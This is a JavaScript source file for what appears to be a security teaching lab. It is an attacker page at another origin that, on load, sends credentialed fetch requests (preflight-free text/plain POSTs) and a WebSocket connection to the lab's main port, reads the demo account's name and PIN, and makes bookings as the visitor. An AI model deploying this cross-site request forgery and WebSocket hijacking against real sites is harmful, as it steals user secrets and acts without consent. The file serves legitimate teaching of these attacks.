/**
 * A page of somebody else, at another origin (the port of a lab session), that speaks for its visitor where it can: as soon
 * as it is shown it tries the four doors of the demonstration account at the main port. Nothing here is clever: these are
 * the ordinary fetch and WebSocket of any page, and the browser adds the visitor's cookie by itself.
 */

import { labOfPage } from "../../lab/place.js";
import { restoreAppearance } from "../../shell/appearance.js";
import { el } from "../../shell/dom.js";
import { t } from "../../shell/language.js";
import { DOORS } from "./doors.js";

const WITHIN_MS = 6000;

restoreAppearance();
const lab = labOfPage();
const asked = new URLSearchParams(location.search);
const tries = Math.min(5, Number(asked.get("tries")) || 1);
const room = (asked.get("room") ?? "").slice(0, 8);
const list = document.getElementById("tried");
const spoils = document.getElementById("spoils");
const teller = window.parent === window ? window.opener : window.parent;

if (lab === null) list.append(el("li", {}, t("elsewhere.not-here")));
else await tryAll();

async function tryAll() {
  for (const each of DOORS) {
    const { read, said } = await (each.method === null ? byWebSocket(each) : byFetch(each));
    list.append(el("li", { data: { read: String(read), door: each.key } }, el("span", {}, t(`lab.whose-page.door.${each.key}`)), " ", el("strong", {}, said)));
    tell({ what: "tried", key: each.key, read, said });
  }
  tell({ what: "done" });
}

/** As often as it is to be booked by POST, once by GET: with the cookie, and without asking first (no preflight). */
async function byFetch({ key, method, path }) {
  const init = { method, credentials: "include", cache: "no-store" };
  let said = "";
  for (let count = 0; count < (method === "POST" ? tries : 1); count += 1) {
    if (method === "POST") Object.assign(init, { headers: { "Content-Type": "text/plain" }, body: wish(key, count) });
    try {
      const response = await fetch(new URL(path, lab.main), init);
      const account = await response.json();
      if (account.pin) return stole(account);
      said = String(response.status);
    } catch (error) {
      said = `${error.name}`;
    }
  }
  return { read: false, said };
}

/** The first thing that comes is the account; then it books. */
function byWebSocket({ key, path }) {
  const url = new URL(path, lab.main);
  url.protocol = url.protocol.replace("http", "ws");
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    let result = null;
    const end = (said) => {
      clearTimeout(timer);
      resolve(result ?? { read: false, said });
      socket.close();
    };
    const timer = setTimeout(() => end(t("elsewhere.silent")), WITHIN_MS);
    socket.onmessage = ({ data }) => {
      const account = JSON.parse(data);
      if (!account.signed_in) return;
      if (result === null) for (let count = 0; count < tries; count += 1) socket.send(wish(key, count));
      result ??= stole(account);
      if (account.bookings.filter(({ what }) => what.endsWith(` ${key}`)).length >= tries) end("");
    };
    socket.onclose = ({ code }) => end(t("elsewhere.closed", { code: String(code) }));
  });
}

/** The door stands in it, so that one sees by which it came. */
function wish(key, count) {
  return JSON.stringify({ book: `${room}${"abcde"[count]} ${key}` });
}

function stole({ name, pin }) {
  spoils.hidden = false;
  spoils.replaceChildren(t("elsewhere.stole", { name, pin }));
  return { read: true, said: t("elsewhere.said", { name, pin }) };
}

function tell(news) {
  teller?.postMessage(news, lab.main.origin);
}
